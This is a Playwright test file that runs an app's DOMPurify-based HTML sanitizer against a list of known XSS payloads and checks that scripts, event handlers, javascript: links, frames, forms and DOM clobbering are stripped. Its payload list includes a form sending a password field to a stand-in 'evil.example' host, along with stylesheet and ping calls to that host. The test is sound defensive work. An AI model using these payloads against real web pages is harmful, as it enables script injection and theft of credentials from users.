// The sanitizer the detail panes put the server's HTML through, run in a real browser (DOMPurify
// needs a DOM, and this project has no jsdom): hostile HTML of every known kind goes in, and what
// comes out is put into a page that has no CSP of its own, so anything left that could run, would.
import { buildSync } from 'esbuild';
import { resolve } from 'node:path';
import { expect, test } from '@playwright/test';

const ROOT = resolve(import.meta.dirname, '../..');

/** htmlSanitizer.ts with DOMPurify, as one script that sets window.htmlSanitizer. */
function sanitizerScript(): string {
  const built = buildSync({
    entryPoints: [resolve(ROOT, 'src/renderer/src/records/details/htmlSanitizer.ts')],
    bundle: true,
    format: 'iife',
    globalName: 'htmlSanitizer',
    platform: 'browser',
    write: false,
    logLevel: 'silent',
  });
  return built.outputFiles[0]!.text;
}

/** Each would run `window.__xss = …` (or leave a way to) if it got through. */
const HOSTILE = [
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss = \'img\'">',
  '<svg onload="window.__xss = \'svg\'"><script>window.__xss = "svg-script"</script></svg>',
  '<math><mi xlink:href="javascript:window.__xss=\'math\'">x</mi></math>',
  '<iframe src="javascript:parent.__xss=\'iframe\'"></iframe><iframe srcdoc="<script>parent.__xss=\'srcdoc\'</script>"></iframe>',
  '<object data="javascript:window.__xss=\'object\'"></object><embed src="javascript:window.__xss=\'embed\'">',
  '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.__xss=\'focus\'"><button formaction="javascript:window.__xss=1">Go</button></form>',
  '<details open ontoggle="window.__xss = \'toggle\'"><summary>x</summary></details>',
  '<a href="javascript:window.__xss=\'link\'">click</a><a href=" jav&#x09;ascript:window.__xss=1">tab</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="http://plain.example/">plain http</a><a href="/relative">relative</a>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style><p style="background:url(javascript:window.__xss=1)">styled</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__xss=1"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'mxss\'>">',
  '<div id="getElementById">clobber</div><img name="cookie" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<template><img src=x onerror="window.__xss=\'template\'"></template><video><source onerror="window.__xss=\'video\'"></video>',
  '<a href="https://example.org/ok" target="_blank" onclick="window.__xss=\'click\'" ping="https://evil.example">fine link</a>',
];

const FORBIDDEN_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'base', 'meta', 'link', 'svg', 'math', 'template', 'noscript'];

test('hostile HTML comes out of the sanitizer inert: no scripts, handlers, frames, forms, styles or unsafe links', async ({ page }) => {
  await page.setContent('<!doctype html><html><body><main id="out"></main></body></html>');
  await page.addScriptTag({ content: sanitizerScript() });

  const report = await page.evaluate(
    ({ payloads, forbidden }) => {
      const api = (window as unknown as { htmlSanitizer: { createHtmlSanitizer(w: Window): (html: string) => string } }).htmlSanitizer;
      const sanitize = api.createHtmlSanitizer(window);
      const out = document.getElementById('out')!;
      out.innerHTML = payloads.map((p) => `<section>${sanitize(p)}</section>`).join('');
      const elements = [...out.querySelectorAll('*')];
      return {
        forbiddenTags: elements.map((e) => e.localName).filter((name) => forbidden.includes(name)),
        handlerAttributes: elements.flatMap((e) => [...e.attributes].filter((a) => a.name.toLowerCase().startsWith('on')).map((a) => `${e.localName}[${a.name}]`)),
        styleOrTarget: elements.flatMap((e) => ['style', 'target', 'ping', 'action', 'formaction'].filter((a) => e.hasAttribute(a)).map((a) => `${e.localName}[${a}]`)),
        hrefs: [...out.querySelectorAll('[href]')].map((e) => e.getAttribute('href')),
        srcs: [...out.querySelectorAll('[src]')].map((e) => e.getAttribute('src')),
        links: [...out.querySelectorAll('a[href]')].map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), text: a.textContent })),
        ids: elements.map((e) => e.id).filter(Boolean),
        clobbered: typeof (document as unknown as Record<string, unknown>)['getElementById'] !== 'function',
        text: out.textContent ?? '',
      };
    },
    { payloads: HOSTILE, forbidden: FORBIDDEN_TAGS },
  );

  expect(report.forbiddenTags).toEqual([]);
  expect(report.handlerAttributes).toEqual([]);
  expect(report.styleOrTarget).toEqual([]);
  // Only https links survive, each marked to tell its target nothing; data: images may stay (they cannot run).
  expect(report.hrefs).toEqual(['https://example.org/ok']);
  expect(report.links).toEqual([{ href: 'https://example.org/ok', rel: 'noopener noreferrer nofollow', text: 'fine link' }]);
  for (const src of report.srcs) expect(src).toMatch(/^(https:\/\/|data:image\/)/);
  // Ids from the server cannot shadow the page's own names.
  for (const id of report.ids) expect(id).toMatch(/^user-content-/);
  expect(report.clobbered).toBe(false);
  // The words survive without their markup.
  expect(report.text).toContain('click');
  expect(report.text).toContain('styled');

  // Anything that could still fire has had its chance once the images have failed to load.
  await page.evaluate(() => Promise.all([...document.images].map((img) => (img.complete ? null : new Promise((done) => img.addEventListener('error', done, { once: true }))))));
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
});

test('harmless formatting passes through the sanitizer as it was', async ({ page }) => {
  await page.setContent('<!doctype html><html><body></body></html>');
  await page.addScriptTag({ content: sanitizerScript() });
  const html = '<h3>Before you start</h3><p>Read <strong>all</strong> of <em>this</em>:</p><ul><li>one</li><li>two</li></ul><table><tbody><tr><td>cell</td></tr></tbody></table>';
  const clean = await page.evaluate((input) => (window as unknown as { htmlSanitizer: { createHtmlSanitizer(w: Window): (html: string) => string } }).htmlSanitizer.createHtmlSanitizer(window)(input), html);
  expect(clean).toBe(html);
});
